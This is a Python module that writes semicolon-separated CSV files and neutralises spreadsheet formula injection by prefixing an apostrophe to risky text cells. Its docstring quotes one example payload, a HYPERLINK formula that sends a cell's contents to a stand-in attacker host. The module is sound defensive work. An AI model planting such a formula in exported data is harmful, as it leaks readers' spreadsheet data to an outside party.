"""The one way the app writes CSV: semicolon-separated (as Danish spreadsheets expect), CRLF, and
every text cell safe from formula injection.

A spreadsheet treats a cell that starts with `=`, `+`, `-`, `@`, TAB or CR (some also LF) as a
formula: a unit named `=HYPERLINK("https://evil.example/?"&A1;"Klik")` would run in the reader's
spreadsheet. Such a text cell gets a leading apostrophe (`'=HYPERLINK…`), which spreadsheets show
as text (OWASP's advice). Only cells that are numbers by construction (Python `int`/`float`,
never text from a user) are written as they are, so a negative number stays a number.
"""

from __future__ import annotations

import csv
import io
from collections.abc import Iterable, Sequence

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r", "\n")

Cell = str | int | float | None


def safe_cell(value: Cell) -> str | int | float:
    """One cell as written: numbers unchanged, text neutralised when it could start a formula."""
    if value is None:
        return ""
    if isinstance(value, bool):
        return str(value)
    if isinstance(value, int | float):
        return value
    text = str(value)
    return "'" + text if text.startswith(FORMULA_STARTS) else text


def write_csv(header: Sequence[str], rows: Iterable[Sequence[Cell]]) -> str:
    """A CSV file (header row first) with every cell passed through `safe_cell`."""
    buffer = io.StringIO()
    writer = csv.writer(buffer, delimiter=";", lineterminator="\r\n")
    writer.writerow([safe_cell(cell) for cell in header])
    for row in rows:
        writer.writerow([safe_cell(cell) for cell in row])
    return buffer.getvalue()
